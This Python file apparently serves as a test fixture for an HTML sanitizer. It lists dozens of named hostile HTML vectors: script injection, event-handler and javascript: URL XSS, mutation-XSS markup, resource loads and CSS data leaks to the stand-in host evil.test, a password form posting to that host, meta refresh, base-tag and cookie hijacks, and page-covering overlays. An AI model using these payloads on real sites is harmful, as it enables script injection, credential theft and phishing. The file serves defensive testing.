"""HTML that tries to run, to load, to send, to lead away, or to cover the page.

Each vector names what it tries. `RUN` leaves a mark on the page around the frame,
or anywhere else that it can; `evil.test` is a host that nobody may ever ask.
"""

from __future__ import annotations

from typing import Final

MARK: Final = "pwned"
RUN: Final = (
    "try{top.pwned=1}catch(e){}try{parent.pwned=1}catch(e){}"
    "window.pwned=1;document.title=&quot;Ran&quot;"
)
SCRIPT: Final = RUN.replace("&quot;", "'")
HOST: Final = "http://evil.test"

VECTORS: Final[dict[str, str]] = {
    # --- to run ---------------------------------------------------------------
    "script": f"<script>{SCRIPT}</script>",
    "script, split by NUL": f"<scr\0ipt>{SCRIPT}</scr\0ipt>",
    "script from elsewhere": f'<script src="{HOST}/a.js" type="module"></script>',
    "script within svg": f"<svg><script>{SCRIPT}</script></svg>",
    "script after the end": f"</div></body></html></iframe><script>{SCRIPT}</script>",
    "script in comments": (
        f"<!--><script>{SCRIPT}</script>--><!--[if gte IE 4]><script>{SCRIPT}</script>"
        f"<![endif]--><![CDATA[<script>{SCRIPT}</script>]]>"
    ),
    "image that fails": f'<img src="x" onerror="{RUN}"><img src onerror={SCRIPT!r}>',
    "svg that loads": f'<svg onload="{RUN}"><animate onbegin="{RUN}" dur="1s"/></svg>',
    "svg animation of a link": (
        '<svg><a><animate attributeName="href" values="javascript:top.pwned=1"/>'
        '<text x="20" y="20">Click</text></a></svg>'
    ),
    "handlers of every kind": (
        f'<body onload="{RUN}" onpageshow="{RUN}"><details open ontoggle="{RUN}">'
        f'<summary>More</summary></details><marquee onstart="{RUN}">m</marquee>'
        f'<p onmouseover="{RUN}" onclick="{RUN}" style="animation:x 1s" '
        f'onanimationstart="{RUN}">Move here</p>'
    ),
    "focus by itself": (
        f'<input autofocus onfocus="{RUN}"><p tabindex="0" autofocus '
        f'onfocus="{RUN}">p</p><select autofocus onfocus="{RUN}"></select>'
    ),
    "media that fail": (
        f'<video onerror="{RUN}"><source src="x" onerror="{RUN}"></video>'
        f'<audio src="x" onerror="{RUN}" autoplay></audio>'
    ),
    "markup that mutates": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=top.pwned=1&gt;">'
        '<svg><style><img title="</style><img src=1 onerror=top.pwned=1>"></style>'
    ),
    "noscript that ends in an attribute": (
        '<noscript><p title="</noscript><img src=x onerror=top.pwned=1>"></noscript>'
    ),
    "raw text elements": (
        f"<textarea></textarea><script>{SCRIPT}</script><title><img src=x "
        f'onerror="{RUN}"></title><xmp><img src=x onerror="{RUN}"></xmp>'
        f"<template><script>{SCRIPT}</script></template>"
    ),
    "attribute that ends the frame": f"\"'></iframe><script>{SCRIPT}</script>",
    "links that run": (
        '<a href="javascript:top.pwned=1">one</a><a href="JaVaScRiPt&#58;top.pwned=1">'
        'two</a><a href="java&#10;script:top.pwned=1">three</a>'
        '<a href="&#1;javascript:top.pwned=1">four</a>'
        '<a href="vbscript:msgbox(1)">five</a>'
        '<a href="data:text/html,<script>opener.pwned=1</script>">six</a>'
        '<a href="blob:null/1">seven</a><a href="view-source:http://x/">eight</a>'
    ),
    "map that runs": (
        '<map name="m"><area shape="rect" coords="0,0,9,9" '
        'href="javascript:top.pwned=1"></map><img usemap="#m" width="9" height="9">'
    ),
    "frames": (
        f'<iframe src="javascript:top.pwned=1"></iframe><iframe srcdoc="<script>'
        f'{SCRIPT.replace(chr(39), "")}</script>"></iframe><iframe src="{HOST}/f">'
        '</iframe><iframe src="/"></iframe><frameset><frame src="/"></frameset>'
    ),
    "plug-ins": (
        f'<object data="{HOST}/o"></object><embed src="{HOST}/e"><applet code="a" '
        f'codebase="{HOST}/"></applet><object data="data:text/html,<script>'
        'top.pwned=1</script>"></object><portal src="/"></portal>'
    ),
    "names that hide the document's own": (
        '<img name="body"><form name="documentElement"><input name="scrollHeight">'
        '</form><a name="defaultView"></a><img id="parent" name="top">'
    ),
    # --- to load ----------------------------------------------------------------
    "remote pictures": (
        f'<img src="{HOST}/i.png"><img srcset="{HOST}/s.png 2x" src="//evil.test/j">'
        f'<img lowsrc="{HOST}/l" dynsrc="{HOST}/d"><picture><source srcset="{HOST}/p">'
        f'<img></picture><input type="image" src="{HOST}/n">'
        '<img src="\\\\evil.test\\u">'
        f'<img src=" \nhttp:evil.test/k"><image src="{HOST}/m">'
    ),
    "backgrounds": (
        f'<body background="{HOST}/b"><table background="{HOST}/t"><tr '
        f'background="{HOST}/r"><td background="{HOST}/d">x</td></tr></table>'
    ),
    "media": (
        f'<video src="{HOST}/v" poster="{HOST}/p" autoplay></video><audio '
        f'src="{HOST}/a" preload="auto"></audio><video><track src="{HOST}/t" default>'
        f'<source src="{HOST}/s"></video><bgsound src="{HOST}/b">'
    ),
    "pictures within svg": (
        f'<svg><image href="{HOST}/i"/><use href="{HOST}/u#x"/><feImage '
        f'xlink:href="{HOST}/f"/></svg><svg><style>@import "{HOST}/c";</style></svg>'
    ),
    "style that imports": (
        f"<style>@import url({HOST}/a.css);@import '{HOST}/b.css';body{{background:"
        f"url({HOST}/b.png)}}@font-face{{font-family:f;src:url({HOST}/f.woff)}}"
        f"*{{font-family:f}}p::before{{content:url({HOST}/c)}}</style><p>Text</p>"
    ),
    "style of an element": (
        f'<p style="background:url({HOST}/a);background-image:image-set('
        f"'{HOST}/b' 1x);list-style:url(//evil.test/c);cursor:url({HOST}/d),auto;"
        f'border-image:url({HOST}/e) 1;mask:url({HOST}/f);filter:url({HOST}/g#x)">a</p>'
        f'<p style="background:\\75 rl({HOST}/h)">b</p>'
        f"<p style=\"background:url/**/({HOST}/i);background:URL('{HOST}/j')\">c</p>"
        f'<p style="--a:url({HOST}/k);background:var(--a)">d</p>'
    ),
    "style that spies": (
        f"<style>input[value^='a']{{background:url({HOST}/a)}}a[href*='x']{{"
        f"background-image:url({HOST}/b)}}@media (min-width:1px){{p{{background:"
        f"url({HOST}/c)}}}}</style><input value='abc'><p>Text</p>"
    ),
    "style that breaks out": (
        f"<style>p{{color:red}}</style/><script>{SCRIPT}</script><style><!--</style>"
        f'<script>{SCRIPT}</script>--><p style="color:red&quot;><script>top.pwned=1'
        '</script>">x</p>'
    ),
    "links to load": (
        f'<link rel="stylesheet" href="{HOST}/a.css"><link rel="icon" href="{HOST}/i">'
        f'<link rel="prefetch" href="{HOST}/p"><link rel="preload" as="image" '
        f'href="{HOST}/l"><link rel="preconnect" href="{HOST}"><link rel="manifest" '
        f'href="{HOST}/m"><link rel="modulepreload" href="{HOST}/o">'
        f'<link rel="prerender" href="{HOST}/r"><link rel="dns-prefetch" '
        'href="//evil.test"><link rel="import" href="/">'
    ),
    "names to be looked up": (
        '<meta http-equiv="x-dns-prefetch-control" content="on">'
        '<a href="http://reader-one.evil.test/">A link</a>'
    ),
    "rules to load ahead": (
        '<script type="speculationrules">{"prefetch":[{"source":"list","urls":'
        f'["{HOST}/s"]}}]}}</script><script type="importmap">{{"imports":{{"a":'
        f'"{HOST}/i"}}}}</script><a href="/sign-out/" rel="prefetch">x</a>'
    ),
    # --- to send ----------------------------------------------------------------
    "forms": (
        f'<form action="{HOST}/f" method="post"><input name="password" '
        'type="password" placeholder="Password"><button>Sign in</button></form>'
        f'<form action="/sign-out/" method="post"><button>Go on</button></form>'
        f'<form id="g"></form><button form="g" formaction="{HOST}/b">Next</button>'
        f'<isindex action="{HOST}/x"><input type="image" formaction="{HOST}/y">'
    ),
    "reports": (
        '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; '
        f'report-uri {HOST}/r"><meta http-equiv="Reporting-Endpoints" '
        f'content="d=&quot;{HOST}/e&quot;"><a ping="{HOST}/p" href="/">Home</a>'
        f'<img attributionsrc="{HOST}/a"><meta name="referrer" content="unsafe-url">'
    ),
    # --- to lead away -------------------------------------------------------------
    "refresh": (
        f'<meta http-equiv="refresh" content="0;url={HOST}/r">'
        '<meta http-equiv="refresh" content="0;url=/sign-out/">'
        '<meta http-equiv="refresh" content="0;url=javascript:top.pwned=1">'
    ),
    "base": (
        f'<base href="{HOST}/" target="_top"><img src="relative.png">'
        '<a href="page">A link</a>'
    ),
    "links to the top": f'<a href="{HOST}/t" target="_top">one</a><a href="/" '
    'target="_parent">two</a><a href="//evil.test" rel="opener" target="x">three</a>',
    "cookies": '<meta http-equiv="Set-Cookie" content="sessionid=evil; path=/">',
    # --- to cover, to push, to vanish ------------------------------------------------
    "fixed overlay": (
        '<div style="position:fixed;inset:0;z-index:2147483647;background:red;'
        'width:100vw;height:100vh">Sign in again</div>'
    ),
    "overlay by sheet": (
        "<style>html,body{position:fixed;top:-900px;left:-900px;width:5000px;"
        "height:5000px;margin:-50px;transform:scale(40);overflow:hidden}</style>"
        "<p>Sign in again</p>"
    ),
    "absolute and pushed": (
        '<div style="position:absolute;top:-3000px;left:-3000px;width:9000px">x</div>'
        '<div style="margin:-400px 0 0 -400px;padding:0 0 0 9000px">y</div>'
        '<div style="transform:translate(-900px,-900px) scale(9)">z</div>'
    ),
    "as wide as a street": (
        '<table width="20000"><tr><td nowrap width="20000">wide</td></tr></table>'
        '<div style="width:100000px;min-width:90000px">wide</div>'
        f"<pre>{'x' * 5000}</pre><img width='50000' height='9'>"
    ),
    "as tall as a tower": (
        '<div style="height:100vh;min-height:100vh">a</div>'
        '<table height="100%"><tr><td style="height:500000px">b</td></tr></table>'
    ),
    "one word": f"<p>{'W' * 10_000}</p><p style='white-space:nowrap'>{'n ' * 9000}</p>",
    "huge table": "<table border=1>"
    + "<tr>" * 200
    + "".join(f"<td>{number}</td>" for number in range(2000))
    + "</table>",
    "nested tables": "<table><tr><td>" * 100 + "deep" + "</td></tr></table>" * 100,
    "open elements": "<div><b><i><a href='https://ok.test/'><table><tr><td>" * 60,
    "huge letters": (
        '<p style="font-size:9999px;line-height:0">H</p><font size="7">'
        '<big><big><big style="letter-spacing:9999px">LL</big></big></big></font>'
    ),
    "direction": "<p dir='rtl'>\u202eevil \u2066 \u2069 \u05d0\u05d1</p>",
}
